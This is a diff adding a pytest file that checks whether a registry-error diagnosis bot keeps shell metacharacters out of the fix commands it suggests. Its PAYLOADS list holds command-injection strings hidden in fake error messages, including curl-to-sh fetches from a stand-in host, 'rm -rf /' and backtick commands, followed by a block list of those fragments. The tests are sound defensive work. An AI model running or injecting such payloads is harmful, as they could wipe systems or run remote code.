@@ -1,0 +1,24 @@
+"""Values from a paste go into shell commands only when they have a safe shape."""
+
+import pytest
+
+from bot.engine import diagnose
+from bot.render_text import render_text, self_check_command
+
+PAYLOADS = [
+    'Get "https://x$({curl,-s,evil.example}|sh).azurecr.io/v2/": dial tcp: lookup x$(id).azurecr.io on 10.0.0.2:53: no such host',
+    "denied: client with IP '1.2.3.4;rm -rf /' is not allowed access (myreg.azurecr.io)",
+    "Get https://`reboot`.azurecr.io/v2/: proxyconnect tcp: dial tcp evil`id`.corp:3128: connect: refused",
+    "dial tcp: lookup my'reg.azurecr.io on 10.0.0.2:53: server misbehaving",
+    'HTTPS_PROXY="http://p.corp:3128;curl evil|sh"\nGet https://myreg.azurecr.io/v2/: proxyconnect tcp: EOF',
+]
+
+
+@pytest.mark.parametrize("text", PAYLOADS)
+def test_no_shell_metacharacters_reach_commands(text: str) -> None:
+    d = diagnose(text)
+    commands = [s.command or "" for s in d.fix] + [self_check_command(d) or ""]
+    for command in commands:
+        for bad in ("$(id", "$({curl", "`", ";rm", "|sh", ";curl", "'1.2.3.4;"):
+            assert bad not in command, (bad, command)
+    assert "$(id)" not in render_text(d)
